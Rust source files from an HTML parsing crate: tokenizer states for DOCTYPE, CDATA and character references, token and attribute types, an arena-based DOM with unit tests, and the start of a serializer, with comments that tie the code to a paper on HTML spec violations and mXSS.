                    if let Some(d) = self.doctype.as_mut() {
                        d.system_id = Some(String::new());
                    }
                    self.state = State::DoctypeSystemIdDouble;
                }
                Some('\'') => {
                    if let Some(d) = self.doctype.as_mut() {
                        d.system_id = Some(String::new());
                    }
                    self.state = State::DoctypeSystemIdSingle;
                }
                Some('>') => {
                    self.error(ErrorCode::MissingDoctypeSystemIdentifier);
                    if let Some(d) = self.doctype.as_mut() {
                        d.force_quirks = true;
                    }
                    self.state = State::Data;
                    self.emit_doctype();
                }
                Some(_) => {
                    self.error(ErrorCode::MissingQuoteBeforeDoctypeSystemIdentifier);
                    if let Some(d) = self.doctype.as_mut() {
                        d.force_quirks = true;
                    }
                    self.reconsume(State::BogusDoctype);
                }
                None => {
                    self.error(ErrorCode::EofInDoctype);
                    if let Some(d) = self.doctype.as_mut() {
                        d.force_quirks = true;
                    }
                    self.emit_doctype();
                    self.emit_eof();
                }
            },
            State::DoctypeSystemIdDouble => self.doctype_id_quoted('"', false),
            State::DoctypeSystemIdSingle => self.doctype_id_quoted('\'', false),
            State::AfterDoctypeSystemId => match self.next() {
                Some('\t') | Some('\n') | Some('\u{C}') | Some(' ') => {}
                Some('>') => {
                    self.state = State::Data;
                    self.emit_doctype();
                }
                Some(_) => {
                    self.error(ErrorCode::UnexpectedCharacterAfterDoctypeSystemIdentifier);
                    self.reconsume(State::BogusDoctype);
                }
                None => {
                    self.error(ErrorCode::EofInDoctype);
                    if let Some(d) = self.doctype.as_mut() {
                        d.force_quirks = true;
                    }
                    self.emit_doctype();
                    self.emit_eof();
                }
            },
            State::BogusDoctype => match self.next() {
                Some('>') => {
                    self.state = State::Data;
                    self.emit_doctype();
                }
                Some('\0') => self.error(ErrorCode::UnexpectedNullCharacter),
                Some(_) => {}
                None => {
                    self.emit_doctype();
                    self.emit_eof();
                }
            },

            // --- CDATA ---
            State::CdataSection => match self.next() {
                Some(']') => self.state = State::CdataSectionBracket,
                Some(c) => self.emit_char(c),
                None => {
                    self.error(ErrorCode::EofInCdata);
                    self.emit_eof();
                }
            },
            State::CdataSectionBracket => match self.next() {
                Some(']') => self.state = State::CdataSectionEnd,
                _ => {
                    self.emit_char(']');
                    self.reconsume(State::CdataSection);
                }
            },
            State::CdataSectionEnd => match self.next() {
                Some('>') => self.state = State::Data,
                Some(']') => self.emit_char(']'),
                _ => {
                    self.emit_str("]]");
                    self.reconsume(State::CdataSection);
                }
            },

            // --- character references ---
            State::CharacterReference => match self.next() {
                Some(c) if c.is_ascii_alphanumeric() => {
                    self.reconsume(State::NamedCharacterReference)
                }
                Some('#') => self.state = State::NumericCharacterReference,
                _ => {
                    let st = self.return_state;
                    self.reconsume(st);
                    // Flush the bare `&`.
                    self.flush_charref_amp();
                }
            },

            State::NamedCharacterReference => {
                // The cursor currently sits on the first name character.
                // Entity names are ASCII and never contain CR, so matching
                // against the raw remainder equals matching the normalized
                // stream, and `consumed` counts bytes and characters alike.
                let rest = self.stream.rest();
                if let Some(m) = entities::match_named(rest) {
                    let consumed = m.consumed;
                    let with_semi = m.with_semicolon;
                    let replacement = m.replacement;
                    // The divergence check only asks whether the next raw
                    // character is `=` or alphanumeric; CR/LF normalization
                    // cannot change that answer.
                    let next_after = rest[consumed..].chars().next();
                    self.stream.advance_ascii(consumed);
                    let attr = self.charref_in_attribute();
                    if attr
                        && !with_semi
                        && matches!(next_after, Some(c) if c == '=' || c.is_ascii_alphanumeric())
                    {
                        // Historical-compat: leave the text as-is.
                        self.flush_charref_literal();
                    } else {
                        if !with_semi {
                            self.error(ErrorCode::MissingSemicolonAfterCharacterReference);
                        }
                        self.flush_charref_decoded(replacement);
                    }
                    self.state = self.return_state;
                } else {
                    // No match: flush the `&` and continue in ambiguous
                    // ampersand handling.
                    self.flush_charref_amp();
                    self.state = State::AmbiguousAmpersand;
                }
            }

            State::AmbiguousAmpersand => match self.next() {
                Some(c) if c.is_ascii_alphanumeric() => {
                    if self.charref_in_attribute() {
                        self.append_attr_value(c);
                    } else {
                        self.emit_char(c);
                    }
                }
                Some(';') => {
                    self.error(ErrorCode::UnknownNamedCharacterReference);
                    self.reconsume(self.return_state);
                }
                Some(_) => self.reconsume(self.return_state),
                None => {
                    let st = self.return_state;
                    self.state = st;
                }
            },

            State::NumericCharacterReference => {
                self.char_ref_code = 0;
                match self.next() {
                    Some('x') | Some('X') => self.state = State::HexCharRefStart,
                    Some(_) => self.reconsume(State::DecCharRefStart),
                    None => {
                        self.error(ErrorCode::AbsenceOfDigitsInNumericCharacterReference);
                        self.flush_charref_literal();
                        let st = self.return_state;
                        self.state = st;
                    }
                }
            }
            State::HexCharRefStart => match self.next() {
                Some(c) if c.is_ascii_hexdigit() => self.reconsume(State::HexCharRef),
                _ => {
                    self.error(ErrorCode::AbsenceOfDigitsInNumericCharacterReference);
                    let st = self.return_state;
                    self.reconsume(st);
                    self.flush_charref_literal();
                }
            },
            State::DecCharRefStart => match self.next() {
                Some(c) if c.is_ascii_digit() => self.reconsume(State::DecCharRef),
                _ => {
                    self.error(ErrorCode::AbsenceOfDigitsInNumericCharacterReference);
                    let st = self.return_state;
                    self.reconsume(st);
                    self.flush_charref_literal();
                }
            },
            State::HexCharRef => match self.next() {
                Some(c) if c.is_ascii_hexdigit() => {
                    self.char_ref_code = self
                        .char_ref_code
                        .saturating_mul(16)
                        .saturating_add(c.to_digit(16).unwrap());
                }
                Some(';') => self.state = State::NumericCharRefEnd,
                _ => {
                    self.error(ErrorCode::MissingSemicolonAfterNumericCharacterReference);
                    self.reconsume(State::NumericCharRefEnd);
                }
            },
            State::DecCharRef => match self.next() {
                Some(c) if c.is_ascii_digit() => {
                    self.char_ref_code = self
                        .char_ref_code
                        .saturating_mul(10)
                        .saturating_add(c.to_digit(10).unwrap());
                }
                Some(';') => self.state = State::NumericCharRefEnd,
                _ => {
                    self.error(ErrorCode::MissingSemicolonAfterNumericCharacterReference);
                    self.reconsume(State::NumericCharRefEnd);
                }
            },
            State::NumericCharRefEnd => {
                let off = self.char_ref_start;
                let c = entities::resolve_numeric(self.char_ref_code, off, &mut self.errors);
                let mut buf = [0u8; 4];
                let s: &str = c.encode_utf8(&mut buf);
                self.flush_charref_decoded(s);
                let st = self.return_state;
                self.state = st;
            }
        }
    }

    /// Shared handler for the RCDATA/RAWTEXT/script-data "end tag name"
    /// states: only an *appropriate* end tag (matching the element whose
    /// content we are inside) terminates the content model.
    fn text_end_tag_name(&mut self, content_state: State) {
        match self.next() {
            Some('\t') | Some('\n') | Some('\u{C}') | Some(' ')
                if self.is_appropriate_end_tag() =>
            {
                self.state = State::BeforeAttributeName;
            }
            Some('/') if self.is_appropriate_end_tag() => {
                self.state = State::SelfClosingStartTag;
            }
            Some('>') if self.is_appropriate_end_tag() => {
                self.state = State::Data;
                self.emit_tag();
            }
            Some(c) if c.is_ascii_alphabetic() => {
                self.tag_name.push(c.to_ascii_lowercase());
                self.temp_buffer.push(c);
            }
            _ => {
                self.emit_str("</");
                let tmp = std::mem::take(&mut self.temp_buffer);
                self.emit_str(&tmp);
                self.reconsume(content_state);
            }
        }
    }

    /// Shared handler for the quoted public/system identifier states.
    fn doctype_id_quoted(&mut self, quote: char, public: bool) {
        match self.next() {
            Some(c) if c == quote => {
                self.state =
                    if public { State::AfterDoctypePublicId } else { State::AfterDoctypeSystemId };
            }
            Some('\0') => {
                self.error(ErrorCode::UnexpectedNullCharacter);
                self.push_doctype_id(public, '\u{FFFD}');
            }
            Some('>') => {
                self.error(if public {
                    ErrorCode::AbruptDoctypePublicIdentifier
                } else {
                    ErrorCode::AbruptDoctypeSystemIdentifier
                });
                if let Some(d) = self.doctype.as_mut() {
                    d.force_quirks = true;
                }
                self.state = State::Data;
                self.emit_doctype();
            }
            Some(c) => self.push_doctype_id(public, c),
            None => {
                self.error(ErrorCode::EofInDoctype);
                if let Some(d) = self.doctype.as_mut() {
                    d.force_quirks = true;
                }
                self.emit_doctype();
                self.emit_eof();
            }
        }
    }

    fn push_doctype_id(&mut self, public: bool, c: char) {
        if let Some(d) = self.doctype.as_mut() {
            let field = if public { &mut d.public_id } else { &mut d.system_id };
            field.get_or_insert_with(String::new).push(c);
        }
    }

    /// Reconsume on EOF: there is no character to step back over; just
    /// switch states so the EOF is handled there.
    fn reconsume_eof(&mut self, state: State) {
        self.state = state;
    }

    // The lookahead patterns (`--`, `doctype`, `[CDATA[`, `public`,
    // `system`) contain neither CR nor LF, so comparing against the raw
    // source is equivalent to comparing against the normalized stream: a CR
    // in the source mismatches the pattern either way.

    fn lookahead_is(&self, s: &str) -> bool {
        self.stream.rest().starts_with(s)
    }

    fn lookahead_is_ascii_ci(&self, lower: &str) -> bool {
        debug_assert!(lower.bytes().all(|b| b.is_ascii_lowercase()));
        let rest = self.stream.rest().as_bytes();
        rest.len() >= lower.len()
            && rest.iter().zip(lower.as_bytes()).all(|(g, p)| g.to_ascii_lowercase() == *p)
    }
}

#[cfg(test)]
mod tests;
