//! Token types emitted by the tokenizer.

use crate::atoms::{Atom, SharedStr};

/// An attribute on a start (or, erroneously, end) tag.
///
/// Names are interned [`Atom`]s and values are [`SharedStr`]s, so cloning
/// an attribute (into the DOM, the formatting list, …) never copies text.
#[derive(Debug, Clone, Eq)]
pub struct Attr {
    /// Lowercased attribute name.
    pub name: Atom,
    /// Attribute value with character references decoded.
    pub value: SharedStr,
    /// See [`Attr::raw_value`]. `Shared` means no character reference was
    /// decoded, so the raw text *is* the decoded value — the common case,
    /// stored without a second string.
    raw: RawValue,
    /// Character offset of the first character of the attribute name.
    pub name_offset: usize,
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum RawValue {
    /// Raw text identical to the decoded value.
    Shared,
    /// Diverged: at least one character reference was decoded.
    Owned(SharedStr),
}

impl Attr {
    /// A synthetic attribute whose raw text equals its value (tests,
    /// checker fixtures). No copy is made for the raw form.
    pub fn new(name: impl AsRef<str>, value: impl AsRef<str>) -> Self {
        Attr {
            name: Atom::from_name(name.as_ref()),
            value: SharedStr::new(value.as_ref()),
            raw: RawValue::Shared,
            name_offset: 0,
        }
    }

    /// Tokenizer constructor: `raw` is `None` when no character reference
    /// was decoded in the value (raw text == decoded text).
    pub(crate) fn with_raw(
        name: Atom,
        value: SharedStr,
        raw: Option<SharedStr>,
        name_offset: usize,
    ) -> Self {
        let raw = match raw {
            Some(r) => RawValue::Owned(r),
            None => RawValue::Shared,
        };
        Attr { name, value, raw, name_offset }
    }

    /// The raw (undecoded) value exactly as written in the source. The DE3
    /// checkers need this: `&#10;` in the source is *not* a dangling-markup
    /// newline, but a literal newline is.
    #[inline]
    pub fn raw_value(&self) -> &str {
        match &self.raw {
            RawValue::Shared => &self.value,
            RawValue::Owned(raw) => raw,
        }
    }
}

impl PartialEq for Attr {
    /// Textual equality (plus offset), independent of whether the raw form
    /// is stored shared or owned — exactly the semantics of the old
    /// three-`String` struct.
    fn eq(&self, other: &Attr) -> bool {
        self.name == other.name
            && self.value == other.value
            && self.raw_value() == other.raw_value()
            && self.name_offset == other.name_offset
    }
}

/// A start or end tag token.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Tag {
    /// Lowercased tag name.
    pub name: Atom,
    /// Whether the tag used self-closing syntax (`/>`).
    pub self_closing: bool,
    /// Attributes in source order, with spec-mandated duplicates removed.
    pub attrs: Vec<Attr>,
    /// Attributes the spec dropped due to `duplicate-attribute` errors —
    /// preserved because the paper's DM3 analysis inspects them.
    pub duplicate_attrs: Vec<Attr>,
    /// Character offset of the `<` that opened this tag.
    pub offset: usize,
}

impl Tag {
    pub fn named(name: &str) -> Self {
        Tag { name: Atom::from_name(name), ..Tag::default() }
    }

    /// First attribute with the given (lowercase) name, per spec semantics
    /// (duplicates were dropped at tokenization time).
    pub fn attr(&self, name: &str) -> Option<&Attr> {
        self.attrs.iter().find(|a| a.name == name)
    }

    /// Convenience: decoded value of an attribute.
    pub fn attr_value(&self, name: &str) -> Option<&str> {
        self.attr(name).map(|a| a.value.as_str())
    }
}

/// A DOCTYPE token.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Doctype {
    pub name: Option<String>,
    pub public_id: Option<String>,
    pub system_id: Option<String>,
    pub force_quirks: bool,
}

/// A token produced by the tokenizer (§13.2.5: DOCTYPE, start tag, end tag,
/// comment, character, end-of-file). Character tokens are batched into runs
/// for efficiency; the tree builder splits them where insertion modes care.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Token {
    Doctype(Doctype),
    StartTag(Tag),
    EndTag(Tag),
    Comment(String),
    Characters(String),
    Eof,
}

impl Token {
    pub fn as_start_tag(&self) -> Option<&Tag> {
        match self {
            Token::StartTag(t) => Some(t),
            _ => None,
        }
    }
}
