//! Token types emitted by the tokenizer.

/// An attribute on a start (or, erroneously, end) tag.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Attr {
    /// Lowercased attribute name.
    pub name: String,
    /// Attribute value with character references decoded.
    pub value: String,
    /// The raw (undecoded) value exactly as written in the source. The DE3
    /// checkers need this: `&#10;` in the source is *not* a dangling-markup
    /// newline, but a literal newline is.
    pub raw_value: String,
    /// Character offset of the first character of the attribute name.
    pub name_offset: usize,
}

impl Attr {
    pub fn new(name: impl Into<String>, value: impl Into<String>) -> Self {
        let value = value.into();
        Attr { name: name.into(), raw_value: value.clone(), value, name_offset: 0 }
    }
}

/// A start or end tag token.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Tag {
    /// Lowercased tag name.
    pub name: String,
    /// Whether the tag used self-closing syntax (`/>`).
    pub self_closing: bool,
    /// Attributes in source order, with spec-mandated duplicates removed.
    pub attrs: Vec<Attr>,
    /// Attributes the spec dropped due to `duplicate-attribute` errors —
    /// preserved because the paper's DM3 analysis inspects them.
    pub duplicate_attrs: Vec<Attr>,
    /// Character offset of the `<` that opened this tag.
    pub offset: usize,
}

impl Tag {
    pub fn named(name: &str) -> Self {
        Tag { name: name.to_owned(), ..Tag::default() }
    }

    /// First attribute with the given (lowercase) name, per spec semantics
    /// (duplicates were dropped at tokenization time).
    pub fn attr(&self, name: &str) -> Option<&Attr> {
        self.attrs.iter().find(|a| a.name == name)
    }

    /// Convenience: decoded value of an attribute.
    pub fn attr_value(&self, name: &str) -> Option<&str> {
        self.attr(name).map(|a| a.value.as_str())
    }
}

/// A DOCTYPE token.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Doctype {
    pub name: Option<String>,
    pub public_id: Option<String>,
    pub system_id: Option<String>,
    pub force_quirks: bool,
}

/// A token produced by the tokenizer (§13.2.5: DOCTYPE, start tag, end tag,
/// comment, character, end-of-file). Character tokens are batched into runs
/// for efficiency; the tree builder splits them where insertion modes care.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Token {
    Doctype(Doctype),
    StartTag(Tag),
    EndTag(Tag),
    Comment(String),
    Characters(String),
    Eof,
}

impl Token {
    pub fn as_start_tag(&self) -> Option<&Tag> {
        match self {
            Token::StartTag(t) => Some(t),
            _ => None,
        }
    }
}
