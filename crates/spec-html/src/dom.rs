//! Arena-based DOM.
//!
//! Nodes live in a flat `Vec` indexed by [`NodeId`]; tree structure is
//! expressed with parent/child/sibling links. This keeps the tree builder's
//! frequent structural edits (foster parenting moves nodes *mid-stream*,
//! the adoption agency re-parents whole ranges) cheap and safe without
//! reference counting.

use crate::atoms::{Atom, SharedStr};
use std::fmt;

/// Index of a node in a [`Document`] arena.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct NodeId(pub(crate) u32);

impl NodeId {
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

/// Element namespaces relevant to HTML parsing (§13.2.6.5): HTML, and the
/// two foreign content namespaces whose integration-point rules power the
/// paper's HF5 violations and mXSS payloads.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Namespace {
    Html,
    Svg,
    MathMl,
}

impl fmt::Display for Namespace {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Namespace::Html => "html",
            Namespace::Svg => "svg",
            Namespace::MathMl => "math",
        })
    }
}

/// An element's attribute (post-tokenization: name lowercased for HTML,
/// value with character references decoded).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ElemAttr {
    pub name: Atom,
    pub value: SharedStr,
}

/// Element payload.
#[derive(Debug, Clone)]
pub struct Element {
    /// Tag name. Lowercase for HTML; foreign elements keep their adjusted
    /// case (`foreignObject`, `clipPath`, …).
    pub name: Atom,
    pub ns: Namespace,
    pub attrs: Vec<ElemAttr>,
    /// Character offset of the `<` of the start tag that created this
    /// element (0 for implied elements).
    pub src_offset: usize,
}

impl Element {
    pub fn attr(&self, name: &str) -> Option<&str> {
        self.attrs.iter().find(|a| a.name == name).map(|a| a.value.as_str())
    }

    pub fn has_attr(&self, name: &str) -> bool {
        self.attrs.iter().any(|a| a.name == name)
    }
}

/// What a node is.
#[derive(Debug, Clone)]
pub enum NodeData {
    Document,
    Doctype { name: String, public_id: String, system_id: String },
    Element(Element),
    Text(String),
    Comment(String),
}

/// A node: payload plus tree links.
#[derive(Debug, Clone)]
pub struct Node {
    pub data: NodeData,
    pub parent: Option<NodeId>,
    pub first_child: Option<NodeId>,
    pub last_child: Option<NodeId>,
    pub prev_sibling: Option<NodeId>,
    pub next_sibling: Option<NodeId>,
}

/// The DOM tree arena. `Document::default()` starts with the document node
/// at [`Document::root`].
#[derive(Debug, Clone)]
pub struct Document {
    nodes: Vec<Node>,
}

impl Default for Document {
    fn default() -> Self {
        Document {
            nodes: vec![Node {
                data: NodeData::Document,
                parent: None,
                first_child: None,
                last_child: None,
                prev_sibling: None,
                next_sibling: None,
            }],
        }
    }
}

impl Document {
    pub fn new() -> Self {
        Self::default()
    }

    /// The document node.
    pub fn root(&self) -> NodeId {
        NodeId(0)
    }

    pub fn len(&self) -> usize {
        self.nodes.len()
    }

    pub fn is_empty(&self) -> bool {
        // There is always a document node.
        false
    }

    pub fn node(&self, id: NodeId) -> &Node {
        &self.nodes[id.index()]
    }

    pub fn node_mut(&mut self, id: NodeId) -> &mut Node {
        &mut self.nodes[id.index()]
    }

    /// Create a detached node.
    pub fn create(&mut self, data: NodeData) -> NodeId {
        let id = NodeId(self.nodes.len() as u32);
        self.nodes.push(Node {
            data,
            parent: None,
            first_child: None,
            last_child: None,
            prev_sibling: None,
            next_sibling: None,
        });
        id
    }

    pub fn create_element(
        &mut self,
        name: impl Into<Atom>,
        ns: Namespace,
        attrs: Vec<ElemAttr>,
    ) -> NodeId {
        self.create_element_at(name, ns, attrs, 0)
    }

    /// Create a detached element carrying its source offset.
    pub fn create_element_at(
        &mut self,
        name: impl Into<Atom>,
        ns: Namespace,
        attrs: Vec<ElemAttr>,
        src_offset: usize,
    ) -> NodeId {
        self.create(NodeData::Element(Element { name: name.into(), ns, attrs, src_offset }))
    }

    /// Element payload of `id`, if it is an element.
    pub fn element(&self, id: NodeId) -> Option<&Element> {
        match &self.node(id).data {
            NodeData::Element(e) => Some(e),
            _ => None,
        }
    }

    pub fn element_mut(&mut self, id: NodeId) -> Option<&mut Element> {
        match &mut self.node_mut(id).data {
            NodeData::Element(e) => Some(e),
            _ => None,
        }
    }

    /// Tag name of `id` if it is an HTML-namespace element.
    pub fn html_name(&self, id: NodeId) -> Option<&str> {
        self.element(id).filter(|e| e.ns == Namespace::Html).map(|e| e.name.as_str())
    }

    /// Whether `id` is an element with the given HTML-namespace name.
    pub fn is_html(&self, id: NodeId, name: &str) -> bool {
        self.html_name(id) == Some(name)
    }

    // ----- structural edits -----

    /// Detach `id` from its parent (no-op if already detached).
    pub fn detach(&mut self, id: NodeId) {
        let (parent, prev, next) = {
            let n = self.node(id);
            (n.parent, n.prev_sibling, n.next_sibling)
        };
        if let Some(p) = prev {
            self.node_mut(p).next_sibling = next;
        } else if let Some(par) = parent {
            self.node_mut(par).first_child = next;
        }
        if let Some(nx) = next {
            self.node_mut(nx).prev_sibling = prev;
        } else if let Some(par) = parent {
            self.node_mut(par).last_child = prev;
        }
        let n = self.node_mut(id);
        n.parent = None;
        n.prev_sibling = None;
        n.next_sibling = None;
    }

    /// Append `child` as the last child of `parent`, detaching it first.
    pub fn append(&mut self, parent: NodeId, child: NodeId) {
        debug_assert_ne!(parent, child);
        self.detach(child);
        let last = self.node(parent).last_child;
        match last {
            Some(l) => {
                self.node_mut(l).next_sibling = Some(child);
                self.node_mut(child).prev_sibling = Some(l);
            }
            None => self.node_mut(parent).first_child = Some(child),
        }
        self.node_mut(parent).last_child = Some(child);
        self.node_mut(child).parent = Some(parent);
    }

    /// Insert `child` immediately before `sibling` (which must have a parent).
    pub fn insert_before(&mut self, sibling: NodeId, child: NodeId) {
        self.detach(child);
        let parent = self.node(sibling).parent.expect("insert_before target must be attached");
        let prev = self.node(sibling).prev_sibling;
        match prev {
            Some(p) => {
                self.node_mut(p).next_sibling = Some(child);
                self.node_mut(child).prev_sibling = Some(p);
            }
            None => self.node_mut(parent).first_child = Some(child),
        }
        self.node_mut(child).next_sibling = Some(sibling);
        self.node_mut(sibling).prev_sibling = Some(child);
        self.node_mut(child).parent = Some(parent);
    }

    /// Move all children of `from` onto the end of `to`.
    pub fn reparent_children(&mut self, from: NodeId, to: NodeId) {
        while let Some(c) = self.node(from).first_child {
            self.append(to, c);
        }
    }

    /// Append text, merging into a trailing text node if present (the spec's
    /// "insert a character" behaviour).
    pub fn append_text(&mut self, parent: NodeId, text: &str) {
        if let Some(last) = self.node(parent).last_child {
            if let NodeData::Text(s) = &mut self.node_mut(last).data {
                s.push_str(text);
                return;
            }
        }
        let t = self.create(NodeData::Text(text.to_owned()));
        self.append(parent, t);
    }

    /// Insert text immediately before `sibling`, merging with the previous
    /// text node when possible (used by foster parenting).
    pub fn insert_text_before(&mut self, sibling: NodeId, text: &str) {
        if let Some(prev) = self.node(sibling).prev_sibling {
            if let NodeData::Text(s) = &mut self.node_mut(prev).data {
                s.push_str(text);
                return;
            }
        }
        let t = self.create(NodeData::Text(text.to_owned()));
        self.insert_before(sibling, t);
    }

    // ----- queries -----

    /// Children of `id`, in order.
    pub fn children(&self, id: NodeId) -> Children<'_> {
        Children { doc: self, next: self.node(id).first_child }
    }

    /// All nodes under `id` in document (pre-)order, excluding `id` itself.
    pub fn descendants(&self, id: NodeId) -> Descendants<'_> {
        Descendants { doc: self, root: id, next: self.node(id).first_child }
    }

    /// Ancestor chain of `id`, nearest first, excluding `id` itself.
    pub fn ancestors(&self, id: NodeId) -> Ancestors<'_> {
        Ancestors { doc: self, next: self.node(id).parent }
    }

    /// All elements in the document, in document order.
    pub fn all_elements(&self) -> impl Iterator<Item = NodeId> + '_ {
        self.descendants(self.root())
            .filter(move |id| matches!(self.node(*id).data, NodeData::Element(_)))
    }

    /// First element with the given HTML name, in document order.
    pub fn find_html(&self, name: &str) -> Option<NodeId> {
        self.all_elements().find(|&id| self.is_html(id, name))
    }

    /// Concatenated text content under `id`.
    pub fn text_content(&self, id: NodeId) -> String {
        let mut out = String::new();
        self.text_content_into(id, &mut out);
        out
    }

    /// Concatenated text content under `id`, written into a caller-owned
    /// buffer (cleared first). Sizes the buffer in one cheap pre-pass, so a
    /// buffer reused across many nodes settles at the largest size seen and
    /// stops allocating.
    pub fn text_content_into(&self, id: NodeId, out: &mut String) {
        out.clear();
        let mut total = 0usize;
        for d in self.descendants(id) {
            if let NodeData::Text(s) = &self.node(d).data {
                total += s.len();
            }
        }
        if total == 0 {
            return;
        }
        out.reserve(total);
        for d in self.descendants(id) {
            if let NodeData::Text(s) = &self.node(d).data {
                out.push_str(s);
            }
        }
    }

    /// Whether `anc` is an ancestor of `id` (or equal to it).
    pub fn is_inclusive_ancestor(&self, anc: NodeId, id: NodeId) -> bool {
        if anc == id {
            return true;
        }
        self.ancestors(id).any(|a| a == anc)
    }

    /// Sanity-check structural invariants (used by property tests): sibling
    /// links are mutually consistent, parent links match child lists, and
    /// the tree is acyclic.
    pub fn check_invariants(&self) -> Result<(), String> {
        for (i, node) in self.nodes.iter().enumerate() {
            let id = NodeId(i as u32);
            let mut prev = None;
            let mut child = node.first_child;
            let mut seen = 0usize;
            while let Some(c) = child {
                let cn = self.node(c);
                if cn.parent != Some(id) {
                    return Err(format!("child {c:?} of {id:?} has wrong parent {:?}", cn.parent));
                }
                if cn.prev_sibling != prev {
                    return Err(format!("child {c:?} has inconsistent prev_sibling"));
                }
                prev = Some(c);
                child = cn.next_sibling;
                seen += 1;
                if seen > self.nodes.len() {
                    return Err("sibling cycle detected".into());
                }
            }
            if node.last_child != prev {
                return Err(format!("{id:?} last_child mismatch"));
            }
            // Acyclicity via ancestor walk.
            let mut hops = 0usize;
            let mut a = node.parent;
            while let Some(p) = a {
                hops += 1;
                if hops > self.nodes.len() {
                    return Err("parent cycle detected".into());
                }
                a = self.node(p).parent;
            }
        }
        Ok(())
    }
}

/// Iterator over a node's children.
pub struct Children<'a> {
    doc: &'a Document,
    next: Option<NodeId>,
}

impl Iterator for Children<'_> {
    type Item = NodeId;
    fn next(&mut self) -> Option<NodeId> {
        let id = self.next?;
        self.next = self.doc.node(id).next_sibling;
        Some(id)
    }
}

/// Pre-order descendant iterator.
pub struct Descendants<'a> {
    doc: &'a Document,
    root: NodeId,
    next: Option<NodeId>,
}

impl Iterator for Descendants<'_> {
    type Item = NodeId;
    fn next(&mut self) -> Option<NodeId> {
        let id = self.next?;
        // Compute successor: first child, else next sibling walking up, but
        // never escaping the subtree root.
        let node = self.doc.node(id);
        self.next = if let Some(c) = node.first_child {
            Some(c)
        } else {
            let mut cur = id;
            loop {
                if cur == self.root {
                    break None;
                }
                let n = self.doc.node(cur);
                if let Some(s) = n.next_sibling {
                    break Some(s);
                }
                match n.parent {
                    Some(p) => cur = p,
                    None => break None,
                }
            }
        };
        Some(id)
    }
}

/// Ancestor iterator (nearest first).
pub struct Ancestors<'a> {
    doc: &'a Document,
    next: Option<NodeId>,
}

impl Iterator for Ancestors<'_> {
    type Item = NodeId;
    fn next(&mut self) -> Option<NodeId> {
        let id = self.next?;
        self.next = self.doc.node(id).parent;
        Some(id)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn elem(doc: &mut Document, name: &str) -> NodeId {
        doc.create_element(name, Namespace::Html, Vec::new())
    }

    #[test]
    fn append_and_children() {
        let mut d = Document::new();
        let root = d.root();
        let a = elem(&mut d, "a");
        let b = elem(&mut d, "b");
        d.append(root, a);
        d.append(root, b);
        let kids: Vec<_> = d.children(root).collect();
        assert_eq!(kids, vec![a, b]);
        d.check_invariants().unwrap();
    }

    #[test]
    fn insert_before_front_and_middle() {
        let mut d = Document::new();
        let root = d.root();
        let a = elem(&mut d, "a");
        let c = elem(&mut d, "c");
        d.append(root, a);
        d.append(root, c);
        let b = elem(&mut d, "b");
        d.insert_before(c, b);
        let front = elem(&mut d, "z");
        d.insert_before(a, front);
        let names: Vec<_> =
            d.children(root).map(|id| d.element(id).unwrap().name.clone()).collect();
        assert_eq!(names, vec!["z", "a", "b", "c"]);
        d.check_invariants().unwrap();
    }

    #[test]
    fn detach_relinks_siblings() {
        let mut d = Document::new();
        let root = d.root();
        let a = elem(&mut d, "a");
        let b = elem(&mut d, "b");
        let c = elem(&mut d, "c");
        for id in [a, b, c] {
            d.append(root, id);
        }
        d.detach(b);
        let kids: Vec<_> = d.children(root).collect();
        assert_eq!(kids, vec![a, c]);
        assert!(d.node(b).parent.is_none());
        d.check_invariants().unwrap();
    }

    #[test]
    fn reparent_children_moves_all() {
        let mut d = Document::new();
        let root = d.root();
        let from = elem(&mut d, "from");
        let to = elem(&mut d, "to");
        d.append(root, from);
        d.append(root, to);
        for name in ["x", "y"] {
            let n = elem(&mut d, name);
            d.append(from, n);
        }
        d.reparent_children(from, to);
        assert_eq!(d.children(from).count(), 0);
        assert_eq!(d.children(to).count(), 2);
        d.check_invariants().unwrap();
    }

    #[test]
    fn append_text_merges() {
        let mut d = Document::new();
        let root = d.root();
        d.append_text(root, "foo");
        d.append_text(root, "bar");
        assert_eq!(d.children(root).count(), 1);
        assert_eq!(d.text_content(root), "foobar");
    }

    #[test]
    fn descendants_preorder() {
        let mut d = Document::new();
        let root = d.root();
        let a = elem(&mut d, "a");
        let b = elem(&mut d, "b");
        let c = elem(&mut d, "c");
        d.append(root, a);
        d.append(a, b);
        d.append(root, c);
        let order: Vec<_> = d.descendants(root).collect();
        assert_eq!(order, vec![a, b, c]);
        // Subtree iteration must not escape the root.
        let sub: Vec<_> = d.descendants(a).collect();
        assert_eq!(sub, vec![b]);
    }

    #[test]
    fn ancestors_walk() {
        let mut d = Document::new();
        let root = d.root();
        let a = elem(&mut d, "a");
        let b = elem(&mut d, "b");
        d.append(root, a);
        d.append(a, b);
        let anc: Vec<_> = d.ancestors(b).collect();
        assert_eq!(anc, vec![a, root]);
        assert!(d.is_inclusive_ancestor(a, b));
        assert!(!d.is_inclusive_ancestor(b, a));
    }

    #[test]
    fn find_html_by_name() {
        let mut d = Document::new();
        let root = d.root();
        let s = d.create_element("svg", Namespace::Svg, Vec::new());
        d.append(root, s);
        let p = elem(&mut d, "p");
        d.append(root, p);
        // The SVG element is not an HTML-namespace "svg".
        assert_eq!(d.find_html("svg"), None);
        assert_eq!(d.find_html("p"), Some(p));
    }
}
