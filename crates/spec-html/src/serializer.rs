//! HTML serialization (§13.3 "Serializing HTML fragments").
//!
//! The serializer is half of the paper's proposed automatic fix for the FB
//! violations (§4.4): *"repairing these issues could be automated by
//! serializing the entire document with the current HTML parser and
//! deserializing it again. The syntax would be fixed, but the semantics
//! would still be broken."* It is also half of every mXSS attack: a document
//! that serializes to markup which re-parses *differently* is exactly what
//! Figure 1 exploits. [`serialize`] therefore follows the spec's algorithm
